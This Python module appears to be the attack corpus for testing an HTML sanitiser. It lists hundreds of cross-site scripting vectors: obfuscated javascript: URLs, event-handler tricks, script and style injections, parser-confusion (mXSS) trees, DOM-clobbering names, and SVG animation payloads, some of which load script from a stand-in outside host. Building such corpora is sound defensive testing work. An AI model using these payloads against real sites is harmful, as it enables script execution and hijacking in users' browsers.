"""The attack corpus: HTML that tries to run, load, restyle, shadow or confuse.

Vectors of our own over the known classes. One that works calls `alert` or navigates away. The tests
of the sanitiser judge what is left of each by its structure; the tests in a browser serve them all.
"""

from __future__ import annotations

from collections.abc import Iterator

RUN = "alert(1)"
IMG = f"<img src=x onerror={RUN}>"
STYLED = f"<style>{IMG}</style>"
"""Read as code it is nothing; read as elements, it runs."""

# Each is a URL that would run, in ways that parsers of HTML and of URLs read as the same.
RUNNING_URLS = {
    "plain": f"javascript:{RUN}",
    "capitals": f"JaVaScRiPt:{RUN}",
    "decimal reference": f"&#106;avascript:{RUN}",
    "decimal without semicolon": f"&#106avascript:{RUN}",
    "padded decimal": f"&#0000106;avascript:{RUN}",
    "hexadecimal reference": f"java&#x73;cript:{RUN}",
    "named colon": f"javascript&colon;{RUN}",
    "referenced colon": f"javascript&#58;{RUN}",
    "named tab": f"java&Tab;script:{RUN}",
    "named line end": f"java&NewLine;script:{RUN}",
    "raw tab": f"java\tscript:{RUN}",
    "raw line end": f"java\nscript:{RUN}",
    "raw carriage return": f"java\rscript:{RUN}",
    "leading space": f"  \n javascript:{RUN}",
    "leading control": f"\x01\x1fjavascript:{RUN}",
    "referenced control": f"&#1;javascript:{RUN}",
    "leading form feed": f"&#12;javascript:{RUN}",
    "leading no-break space": f"\u00a0javascript:{RUN}",
    "zero-width inside": f"java\u200bscript:{RUN}",
    "soft hyphen inside": f"java&shy;script:{RUN}",
    "byte order mark": f"\ufeffjavascript:{RUN}",
    "null inside": f"java\0script:{RUN}",
    "digits after the scheme": "javascript:123",
    "digits, then code": f"javascript:1/{RUN}",
    "comment after the scheme": f"javascript://host/%0a{RUN}",
    "space before the colon": f"javascript :{RUN}",
    "twice referenced": f"java&amp;#115;cript:{RUN}",
    "vbscript": f"vbscript:{RUN}",
    "livescript": f"livescript:{RUN}",
    "data html": f"data:text/html,<script>{RUN}</script>",
    "data html in base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data svg": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data without type": f"data:,{RUN}",
    "blob": "blob:https://elsewhere.example/9f3c5d2e",
    "filesystem": "filesystem:https://elsewhere.example/temporary/x.html",
    "view-source": f"view-source:javascript:{RUN}",
    "unknown scheme": "intent://elsewhere.example#Intent;end",
}

# Each holds %s where the URL goes.
URL_PLACES = {
    "link": '<a href="%s">go</a>',
    "link without quotes": "<a href=%s>go</a>",
    "picture": '<img src="%s" alt="p">',
    "candidate picture": '<img src="a.png" srcset="a.png 1x, %s 2x" alt="p">',
}

HANDLERS = """
    onclick onerror onload onmouseover onfocus onfocusin onblur onanimationstart onanimationend
    ontransitionend onwheel onscroll onpointerenter onpointerrawupdate onbeforetoggle ontoggle
    onbeforematch oncontentvisibilityautostatechange onpaste oncopy onkeydown onauxclick
    onpageshow onhashchange onbegin onend onrepeat ONERROR OnClick
"""

HANDLER_FORMS = {
    "in single quotes": f"<img src=x onerror='{RUN}'>",
    "without quotes": f"{IMG}",
    "in backticks": f"<img src=x onerror=`{RUN}`>",
    "after a slash": f"<img/src=x/onerror={RUN}>",
    "after quotes that touch": f'<img src="x"onerror="{RUN}">',
    "after a form feed": f"<img\x0csrc=x\x0conerror={RUN}>",
    "after a null": f"<img src=x \0onerror={RUN}>",
    "with a null inside": f"<img src=x on\0error={RUN}>",
    "after an equals sign": f"<img src=x =onerror={RUN} onerror={RUN}>",
    "after a quote as name": f'<img src=x " onerror={RUN}>',
    "after a tag as name": f"<img src=x <b onerror={RUN}>",
    "of an unknown element": f"<x-note onclick={RUN} tabindex=1 autofocus onfocus={RUN}>x</x-note>",
    "with referenced code": "<img src=x onerror=&#97;lert(1)>",
    "behind a duplicate": f"<img src=x onerror onerror={RUN}>",
    "in an end tag": f"<b>x</b onclick={RUN}>",
    "in an alternative text": f'<img alt="`>{IMG}">',
    "at the end of the text": f"<img src=x onerror={RUN} ",
    "before the end of a value": f'<img src=x onerror="{RUN}',
    "through a namespace in braces": f"<img src=x {{x}}onerror={RUN}>",
    "on an image element": f"<image src=x onerror={RUN}>",
    "on a source": f"<picture><source srcset=x onerror={RUN}><img src=x></picture>",
}

OTHER_URLS = {
    "action": f"<form action=javascript:{RUN}><button>go</button></form>",
    "formaction": f"<form><button formaction=javascript:{RUN}>go</button></form>",
    "form outside": f"<form id=f></form><button form=f formaction=javascript:{RUN}>go</button>",
    "input picture": f"<input type=image src=x onerror={RUN} formaction=javascript:{RUN}>",
    "isindex": f"<isindex type=image src=x onerror={RUN}>",
    "base": '<base href="https://elsewhere.example/"><a href="x">go</a>',
    "base that runs": f'<base href="javascript:{RUN}//"><a href="/x">go</a>',
    "refresh": '<meta http-equiv="refresh" content="0; url=https://elsewhere.example/">',
    "refresh that runs": f'<meta http-equiv="refresh" content="0; url=javascript:{RUN}">',
    "policy": "<meta http-equiv=content-security-policy content=\"script-src 'none'\">",
    "style sheet": '<link rel="stylesheet" href="https://elsewhere.example/x.css">',
    "import": '<link rel="import" href="data:text/html,x">',
    "preload": '<link rel="preload" as="script" href="/x.js">',
    "frame": f'<iframe src="javascript:{RUN}"></iframe>',
    "frame document": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frame document in references": "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "frameset": f'<frameset><frame src="javascript:{RUN}"></frameset>',
    "object": f'<object data="javascript:{RUN}">x</object>',
    "object parameters": f'<object><param name="src" value="javascript:{RUN}"></object>',
    "embed": f'<embed src="javascript:{RUN}">',
    "embedded data": '<embed src="data:text/html,<script>alert(1)</script>">',
    "applet": f'<applet code="javascript:{RUN}">x</applet>',
    "background": f'<table><td background="javascript:{RUN}">x</table>',
    "poster": f'<video poster="javascript:{RUN}" src=x onerror={RUN}></video>',
    "audio": f"<audio src=x onerror={RUN} autoplay></audio>",
    "source of a video": f"<video><source onerror={RUN}></video>",
    "track": f"<video><track src=x onload={RUN}></video>",
    "long description": f'<img src=x longdesc="javascript:{RUN}">',
    "citation": f'<blockquote cite="javascript:{RUN}">x</blockquote>',
    "ping": '<a href="#x" ping="https://elsewhere.example/">go</a>',
    "target": '<a href="#x" target="_top" download="x.html">go</a>',
    "area": f'<map name=m><area href="javascript:{RUN}"></map><img usemap="#m" src=x>',
    "portal": f'<portal src="javascript:{RUN}"></portal>',
    "manifest": '<html manifest="x"><body background="javascript:alert(1)" onload=alert(1)>x',
    "formula": f'<math href="javascript:{RUN}"><mi>x</mi></math>',
    "part of a formula": f'<math><mi href="javascript:{RUN}">x</mi></math>',
    "formula by xlink": f'<math xlink:href="javascript:{RUN}"><mi>x</mi></math>',
    "action of a formula": f'<math><maction xlink:href="javascript:{RUN}">x</maction></math>',
    "drawing": f'<svg><a href="javascript:{RUN}"><text>go</text></a></svg>',
    "drawing by xlink": f'<svg><a xlink:href="javascript:{RUN}"><text>go</text></a></svg>',
    "use": f'<svg><use href="data:image/svg+xml,<svg id=x onload={RUN} />#x"/></svg>',
    "use by xlink": '<svg><use xlink:href="https://elsewhere.example/x.svg#x"/></svg>',
    "picture in a drawing": f'<svg><image href="x" onerror={RUN} /></svg>',
    "gradient elsewhere": '<svg><linearGradient href="https://elsewhere.example/x.svg#x"/></svg>',
    "paint elsewhere": '<svg><rect fill="url(https://elsewhere.example/x.svg#x)"/></svg>',
    "paint that runs": f'<svg><rect fill="url(javascript:{RUN})"/></svg>',
    "mask elsewhere": "<svg><rect mask='url(\"//elsewhere.example/x.svg#x\")'/></svg>",
    "text path elsewhere": "<svg><textPath href='https://elsewhere.example/x.svg#x'/></svg>",
    "text path": f'<svg><text><textPath href="javascript:{RUN}">x</textPath></text></svg>',
}

SCRIPTS = {
    "plain": f"<script>{RUN}</script>",
    "capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "with a space at the end": f"<script>{RUN}</script >",
    "with a slash": f"<script/x>{RUN}</script/>",
    "from elsewhere": '<script src="https://elsewhere.example/x.js"></script>',
    "from data": '<script src="data:,alert(1)"></script>',
    "module": f'<script type="module">{RUN}</script>',
    "without an end": f"<script>{RUN}",
    "without the end of the end": f"<script>{RUN}</script",
    "around a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "in a script": f"<script><script>{RUN}</script></script>",
    "with a comment": f"<script><!--<script></script>--></script>{IMG}",
    "with an escaped script": f"<script><!--<script>{RUN}</script>",
    "in a drawing": f"<svg><script>{RUN}</script></svg>",
    "in a drawing, by link": '<svg><script href="data:,alert(1)"/></svg>',
    "in a drawing, with references": "<svg><script>&#97;lert(1)</script></svg>",
    "in a drawing, as character data": f"<svg><script><![CDATA[{RUN}]]></script></svg>",
    "in a formula": f"<math><script>{RUN}</script></math>",
    "in a table": f"<table><script>{RUN}</script><tr><td>x</table>",
    "in a list of options": f"<select><script>{RUN}</script></select>",
    "after a null": f"<\0script>{RUN}</script>",
    "with a null inside": f"<scr\0ipt>{RUN}</script>",
    "named in references": f"<&#115;cript>{RUN}</script>",
    "after a less-than sign": f"<<script>{RUN}</script>",
    "in references": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "in full-width signs": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "with a prefix": f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
}

STYLES = {
    "element": "<style>body{display:none}</style>",
    "import": "<style>@import 'https://elsewhere.example/x.css';</style>",
    "without an end": "<style>body{display:none}",
    "attribute": '<p style="position:fixed;inset:0;background:url(https://elsewhere.example/x)">x'
    "</p>",
    "attribute that runs": f'<p style="width:expression({RUN})">x</p>',
    "binding": '<p style="-moz-binding:url(https://elsewhere.example/x.xml#x)">x</p>',
    "alignment and more": '<table><td style="text-align:left;position:fixed">x</table>',
    "in a drawing": "<svg><style>*{fill:url(https://elsewhere.example/x)}</style></svg>",
    "with a picture inside": f"{STYLED}",
    "with an end in a value": f'<style><a title="</style>{IMG}"></style>',
    "class of the page": '<div class="status-line download-card">x</div>',
    "part and slot": '<div part="x" slot="y" exportparts="z">x</div>',
}

# Trees that a parser reads one way and, once written down, reads another way.
CONFUSIONS = {
    "style in a formula": "<math><mtext><table><mglyph><style>"
    f"<math href='x'>{IMG}</style></table></mtext></math>",
    "mglyph and style": "<math><mtext><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    "malignmark": f"<math><mi><malignmark>{STYLED}</malignmark></mi></math>",
    "form and table": f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    "annotation with HTML": f'<math><annotation-xml encoding="text/html">{STYLED}'
    "</annotation-xml></math>",
    "annotation with XHTML": '<math><annotation-xml encoding="application/xhtml+xml">'
    f"<script>{RUN}</script></annotation-xml></math>",
    "annotation in capitals": f'<math><annotation-xml ENCODING="TEXT/HTML"><p>{STYLED}',
    "annotation with a drawing": f"<math><annotation-xml><svg>{STYLED}"
    "</svg></annotation-xml></math>",
    "description": f"<svg><desc>{STYLED}</desc></svg>",
    "title": f"<svg><title>{STYLED}</title></svg>",
    "foreign object": f"<svg><foreignObject>{STYLED}</foreignObject></svg>",
    "foreign object with a frame": f'<svg><foreignObject><iframe srcdoc="<script>{RUN}'
    '</script>"></iframe></foreignObject></svg>',
    "end of a paragraph in a drawing": f"<svg></p><style><a title='</style>{IMG}'>",
    "end of a line in a formula": f"<math></br><style><a title='</style>{IMG}'>",
    "breakout by a font": f"<svg><font color=x>{STYLED}</font></svg>",
    "breakout by a heading": f"<svg><g><h1><style></style>{IMG}</h1></g></svg>",
    "drawing in a formula": f"<math><svg>{STYLED}</svg></math>",
    "formula in a drawing": f"<svg><math><mi>{STYLED}</mi></math></svg>",
    "noscript": f'<noscript><p title="</noscript>{IMG}"></noscript>',
    "noscript and style": f"<noscript><style></noscript>{IMG}</style>",
    "noscript in a table": f"<table><noscript><td></noscript>{IMG}</table>",
    "noembed": f'<noembed><p title="</noembed>{IMG}"></noembed>',
    "noframes": f'<noframes><p title="</noframes>{IMG}"></noframes>',
    "example": f'<xmp><p title="</xmp>{IMG}"></xmp>',
    "listing": f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    "plain text": f"<plaintext>{IMG}",
    "text area": f'<textarea><p title="</textarea>{IMG}"></textarea>',
    "document title": f'<title><p title="</title>{IMG}"></title>',
    "options": f"<select><option><style></option></select>{IMG}</style></select>",
    "keygen in options": f"<select><keygen autofocus onfocus={RUN}></select>",
    "template": f"<template><script>{RUN}</script></template>",
    "template in a template": f"<template><template>{IMG}</template></template>",
    "declared shadow": f'<div><template shadowrootmode="open">{IMG}</template></div>',
    "shadow in a drawing": f"<svg><template>{STYLED}</template></svg>",
    "comment": f"<!-->{IMG}-->",
    "comment with a dash": f"<!--->{IMG}-->",
    "comment with a bang": f"<!-- --!>{IMG} -->",
    "comment in a comment": f"<!-- <!-- --> {IMG} -->",
    "comment without an end": f"text <!-- {IMG}",
    "conditional comment": f"<!--[if true]>{IMG}<![endif]-->",
    "comment in a drawing": f"<svg><!--<style>{IMG}--></style></svg>",
    "processing instruction": f'<?xml-stylesheet href="javascript:{RUN}"?><?x {IMG}?>',
    "declaration": f"<!ELEMENT x {IMG}>",
    "document type": f"<!DOCTYPE x [<!ENTITY y '{IMG}'>]>&y;",
    "bogus end": f"</ {IMG}>",
    "character data": f"<![CDATA[{IMG}]]>",
    "character data in a drawing": f"<svg><![CDATA[</svg>{IMG}]]></svg>",
    "character data in a formula": f"<math><mi><![CDATA[x]]>{IMG}</mi></math>",
    "character data, then style": f"<svg><![CDATA[><style>]]>{IMG}</style></svg>",
    "value with an end": f'<p title="</p>{IMG}">x</p>',
    "value that is a sign": f'<p title=">" id="x&quot; onclick={RUN}">x</p>',
    "value with a quote": f'<p title="&quot;>{IMG}">x</p>',
    "value with a backtick": f"<p title=`>{IMG}`>x</p>",
    "value twice referenced": f'<p title="&amp;quot;&amp;gt;&amp;lt;img src=x onerror={RUN}">x</p>',
    "text twice referenced": f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    "references without semicolons": f"&lt<img src=x onerror={RUN}&gt",
    "nested tables": "<table><tr><td>" * 20 + f"{IMG}" + "</table>" * 20,
    "text in a table": f"<table>a<b>b<tr>c{IMG}<td>d</table>",
    "table in a link in a table": f"<table><a href=javascript:{RUN}><table>"
    f"<a href=javascript:{RUN}>x</table>",
    "paragraph in a table": f"<b><div><table><i>kept<p>{IMG}</table></b>after",
    "formatting across blocks": f"<b><p><i><div></b>{IMG}</i></p>",
    "many formats": f"<a><b><i><u><s><em><strong><code><tt><p></a>{IMG}",
    "term in a table": f"<dt>x<table><dt>y{IMG}<dt>z</table>",
    "tag without an end": f"<b {IMG}",
    "tag in a tag": f"<img <img src=x onerror={RUN}//>",
    "end without a start": f"</div></p></table></svg></math></script>{IMG}",
    "lone surrogate": f"\ud83d{IMG}\udc00",
    "not characters": f"\ufdd0\uffff<im\ufffeg src=x onerror={RUN}>",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "ISO-2022-JP escape": f"\x1b(J{IMG}\x1b$B",
    "right-to-left override": f"\u202e{IMG}\u202c",
}

# Names by which a page's own scripts and links find things.
SHADOWS = {
    "main": '<main id="main" data-article="x">x</main>',
    "id of the page": '<div id="main">x</div><div id="content">y</div>',
    "document property": '<img name="cookie" alt="x"><img name="body" alt="x">',
    "window property": '<a id="trustedTypes" href="x">x</a><a name="navigator">y</a>',
    "collection": '<a id="x">1</a><a id="x" name="y" href="javascript:alert(1)">2</a>',
    "prototype": '<p id="__proto__">x</p><p id="constructor">y</p>',
    "form elements": '<form id="f"><input name="attributes"><input name="children"></form>',
    "base by id": '<a id="baseURI" href="https://elsewhere.example/">x</a>',
    "id in a drawing": '<svg id="main"><g id="content"></g></svg>',
    "id in a formula": '<math id="main"><mi id="content">x</mi></math>',
    "custom element": "<status-line>x</status-line><library-list>y</library-list>",
    "built-in custom element": '<p is="status-line">x</p>',
    "landmarks": '<nav aria-label="Main">x</nav><div role="main" aria-live="assertive">y</div>',
    "editable": '<p contenteditable tabindex="0" accesskey="x" autofocus>x</p>',
    "popover": '<div popover id="p">x</div><button popovertarget="p">y</button>',
    "dialog": "<dialog open>Your session has ended.</dialog>",
    "command": '<button commandfor="main" command="close">x</button>',
    "item": '<div itemscope itemref="main" data-route="x" hidden inert>x</div>',
}

ANIMATIONS = {
    "set": f'<svg><a><set attributeName="href" to="javascript:{RUN}"/><text>x</text></a></svg>',
    "animate": f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/></a></svg>',
    "animate by id": '<a id="x">x</a><svg><animate href="#x" attributeName="href"'
    f' to="javascript:{RUN}"/></svg>',
    "animate that begins": f'<svg><animate attributeName="x" dur="1s" onbegin={RUN} /></svg>',
    "animate motion": f"<svg><animateMotion onend={RUN} dur=1s /></svg>",
    "animate transform": f"<svg><animateTransform onrepeat={RUN} dur=1s attributeName=transform />"
    "</svg>",
    "handler element": f"<svg><handler type='text/javascript'>{RUN}</handler></svg>",
    "discard": f"<svg><discard onbegin={RUN} /></svg>",
    "load of a drawing": f"<svg/onload={RUN}>",
    "load of a part": f"<svg><g onload={RUN}></g></svg>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "details": f"<details open ontoggle={RUN}><summary>x</summary></details>",
}


def _attacks() -> Iterator[tuple[str, str]]:
    for place, html in URL_PLACES.items():
        for form, url in RUNNING_URLS.items():
            if place == "link" or form in ("plain", "digits after the scheme", "data html"):
                yield f"URL of a {place}: {form}", html % url
    for handler in HANDLERS.split():
        yield f"handler {handler}", f'<p {handler}="{RUN}">text</p><svg {handler}="{RUN}"></svg>'
    for kind, vectors in (
        ("handler", HANDLER_FORMS),
        ("URL", OTHER_URLS),
        ("script", SCRIPTS),
        ("style", STYLES),
        ("confusion", CONFUSIONS),
        ("shadow", SHADOWS),
        ("animation", ANIMATIONS),
    ):
        for name, html in vectors.items():
            yield f"{kind} {name}", html


ATTACKS: list[tuple[str, str]] = list(_attacks())
"""(name, html): the name says what the vector tries."""
